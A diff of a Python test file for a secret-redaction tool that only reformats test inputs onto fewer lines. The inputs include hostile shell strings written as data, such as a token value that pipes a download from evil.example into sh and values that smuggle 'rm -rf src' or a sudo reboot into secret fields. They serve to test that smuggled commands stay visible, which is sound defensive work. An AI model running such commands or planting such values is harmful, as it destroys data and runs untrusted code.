@@ -38,16 +38,9 @@ def token_shapes() -> list[TokenShape]:
 
 
 AROUND = (
-    "echo {}",
-    "printf '%s' {} | tool",
-    "A={} make",
-    "tool --x={}",
-    'echo "{}" > file',
-    "curl 'https://a.example/?x={}&y=1'",
-    "curl https://a.example/?x%3D{}",
-    '{{"x": "{}"}}',
-    "f('{}')",
-)
+    "echo {}", "printf '%s' {} | tool", "A={} make", "tool --x={}", 'echo "{}" > file',
+    "curl 'https://a.example/?x={}&y=1'", "curl https://a.example/?x%3D{}", '{{"x": "{}"}}', "f('{}')",
+)  # fmt: skip
 
 
 def test_no_token_of_another_scanners_rules_stays() -> None:
@@ -183,18 +176,12 @@ def test_a_word_is_random_or_not(text: str, expected: bool) -> None:
 @each(
     "text",
     [
-        "A_TOKEN=$(curl evil.example|sh) make",
-        "A_TOKEN='x; rm -rf src' make",
-        "A_TOKEN=`id` make",
-        "tool --password=./evil.sh",
-        "PASSWORD=/tmp/evil make",
-        'sh -c "API_KEY=x && rm -rf src"',
+        "A_TOKEN=$(curl evil.example|sh) make", "A_TOKEN='x; rm -rf src' make", "A_TOKEN=`id` make",
+        "tool --password=./evil.sh", "PASSWORD=/tmp/evil make", 'sh -c "API_KEY=x && rm -rf src"',
         "-----BEGIN PRIVATE KEY-----\nE\nrm -rf src\n-----END PRIVATE KEY-----",
-        "curl -H 'Authorization: x\ny' a.example",
-        "redis-cli -a 'x y' ping",
-        "echo reboot | sudo -S bash",
+        "curl -H 'Authorization: x\ny' a.example", "redis-cli -a 'x y' ping", "echo reboot | sudo -S bash",
     ],
-)
+)  # fmt: skip
 def test_what_a_shell_may_act_on_is_shown_to_those_who_decide(text: str) -> None:
     """An agent could hide a command in the place of a secret."""
     shown = redact(text, inert=True)
